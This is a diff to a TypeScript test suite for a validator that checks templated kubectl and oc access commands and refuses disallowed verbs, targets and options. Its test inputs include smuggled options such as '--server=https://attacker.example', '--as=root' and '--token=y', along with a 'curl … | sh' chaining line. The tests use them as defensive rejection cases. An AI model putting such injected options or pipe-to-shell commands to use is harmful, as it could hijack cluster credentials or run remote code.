@@ -38,7 +38,10 @@ describe('access command', () => {
       'kubectl exec -ti -n {{ .Metadata.Namespace }} {{ .Metadata.Name }} -- /bin/sh',
       'kubectl exec -ti -n payments web-1 -- /bin/sh',
     ],
-    ['oc rsh -n {{.Metadata.Namespace}} pod/{{  .Metadata.Name }}', 'oc rsh -n payments pod/web-1'],
+    ['oc exec -n "{{.Metadata.Namespace}}" pod/{{  .Metadata.Name }} -- id', 'oc exec -n "payments" pod/web-1 -- id'],
+    ["kubectl attach --stdin=true -it '{{ .Metadata.Name }}' -c app", "kubectl attach --stdin=true -it 'web-1' -c app"],
+    ['kubectl logs -f {{ .Metadata.Name }} app --since 5m', 'kubectl logs -f web-1 app --since 5m'],
+    [`${exec} curl --server=x -s`, 'kubectl exec -ti web-1 -- curl --server=x -s'],
     [`${exec} {{ index .Metadata.Labels "team.example.com/name" }}`, 'kubectl exec -ti web-1 -- money'],
     [
       `${exec} {{index  .Metadata.Annotations  "note"}} y`,
@@ -94,7 +97,20 @@ describe('access command', () => {
     ['a variable for kubectl', `PATH=/tmp ${exec} sh`, /begins with "PATH=\/tmp"/],
     ['a program with a longer name', 'kubectl-x {{ .Metadata.Name }}', /begins with "kubectl-x"/],
     ['a program in a placeholder', '{{ .Metadata.Name }}', /begins with/],
-    ['no pod', 'kubectl exec deploy/web -- sh', /does not name the granted pod; write \{\{ \.Metadata\.Name \}\}/],
+    [
+      'no pod',
+      'kubectl exec -n x -- {{ .Metadata.Name }}',
+      /does not name the granted pod; write \{\{ \.Metadata\.Name \}\}/,
+    ],
+    ['another target', 'kubectl exec deploy/web {{ .Metadata.Name }}', /has the target "deploy\/web"; write \{\{/],
+    ['a longer target', 'kubectl exec {{ .Metadata.Name }}-0 -- sh', /has the target "\{\{ \.Metadata\.Name \}\}-0"/],
+    ['another verb', 'kubectl delete pod {{ .Metadata.Name }}', /has "delete" after kubectl; allowed are exec, /],
+    ['an option before the verb', 'kubectl -n x exec {{ .Metadata.Name }}', /has "-n" after kubectl/],
+    [
+      'a quoted verb',
+      'kubectl "exec" {{ .Metadata.Name }}',
+      /after kubectl; allowed are exec, attach, logs, port-forward/,
+    ],
     [
       'a label that the pod lacks',
       `${exec} {{ index .Metadata.Labels "nope" }}`,
@@ -108,6 +124,39 @@ describe('access command', () => {
   ] as const) {
     it(`rejects ${title}`, () => assert.match(render(source), new RegExp(`^refused: .*${expected.source}`)));
   }
+
+  for (const options of [
+    '--server=https://attacker.example',
+    '--server https://attacker.example',
+    '-s https://attacker.example',
+    '-is https://attacker.example',
+    '"--server=https://attacker.example"',
+    "'--server' https://attacker.example",
+    '""--server=https://attacker.example',
+    '--insecure-skip-tls-verify',
+    '--kubeconfig=/tmp/x',
+    '--as=root',
+    '-f https://attacker.example',
+    '-n x --token=y',
+    '--stdin --user=x',
+    '"a -- b" --server=x',
+    '"\'--\'" --server=x',
+    '"--" --server=x',
+  ]) {
+    it(`rejects the options ${options}, before and after the pod`, () => {
+      for (const source of [
+        `kubectl exec ${options} {{ .Metadata.Name }} -- sh`,
+        `kubectl exec {{ .Metadata.Name }} ${options} -- sh`,
+      ]) {
+        assert.match(render(source), /^refused: InvalidAccessCommand accessCommand has the (option|target) /, source);
+      }
+    });
+  }
+
+  it('rejects an option whose value would be --, because options could follow', () => {
+    const source = 'kubectl exec {{ .Metadata.Name }} -n -- --server=https://attacker.example';
+    assert.match(render(source), /has the option -n without a value; write one/);
+  });
 
   for (const [end, found] of [
     ['sh; curl https://example.org/x | sh', '";" outside of quotes'],
@@ -161,9 +210,9 @@ describe('access command', () => {
     assert.equal(render(`${before}${name} y`, filled(4081)), `${before}${'x'.repeat(4081)} y`);
     for (const [source, length] of [
       [name, 4084],
-      [`${name}y`, 4083],
-      [`${name}${name}`, 4083],
-      [`y${name}`, 4083],
+      [`${name} y`, 4082],
+      [`${name} ${name}`, 4082],
+      [`pod/${name}`, 4080],
     ] as const) {
       assert.match(
         render(`${before}${source}`, filled(length)),
